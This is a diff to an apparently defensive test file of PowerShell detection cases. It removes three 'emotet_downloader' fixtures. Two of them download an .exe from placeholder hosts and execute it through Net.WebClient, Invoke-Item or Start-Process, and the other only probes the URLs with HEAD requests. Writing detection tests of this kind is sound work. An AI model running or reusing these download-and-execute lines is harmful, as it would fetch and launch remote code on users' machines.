@@ -281,17 +281,6 @@ SCRIPT_CASES: list[tuple[str, dict, bool]] = [
     ("posh_ps_shellcode_injection",
      script("# documents kernel32 VirtualAlloc for the memory report\n"
             "Get-Counter '\\Memory\\Committed Bytes'"), False),
-    ("posh_ps_malware_emotet_downloader",
-     script("$Mx='Qw';$Lst='http://a-garden.example/wp-admin/q/@http://tiles.example/css/zz/'"
-            ".sPlIt('@');$O=$env:userprofile+'\\421.exe';$W=New-Object Net.WebClient;"
-            "foreach($u in $Lst){try{$W.DownloadFile($u,$O);Invoke-Item $O;break}catch{}}"), True),
-    ("posh_ps_malware_emotet_downloader",
-     script("$W=New-Object Net.WebClient;$W.DownloadFile('http://192.0.2.7/a.exe',"
-            "\"$env:temp\\a.exe\");foreach($i in 1..3){Start-Sleep 1};Start-Process "
-            "\"$env:temp\\a.exe\""), False),
-    ("posh_ps_malware_emotet_downloader",
-     script("foreach($u in 'https://a.example/@https://b.example/'.Split('@')){"
-            "Invoke-WebRequest $u -Method Head -OutFile \"$env:temp\\probe.txt\"}"), False),
 ]
 
 ALL_CASES = CASES + SCRIPT_CASES
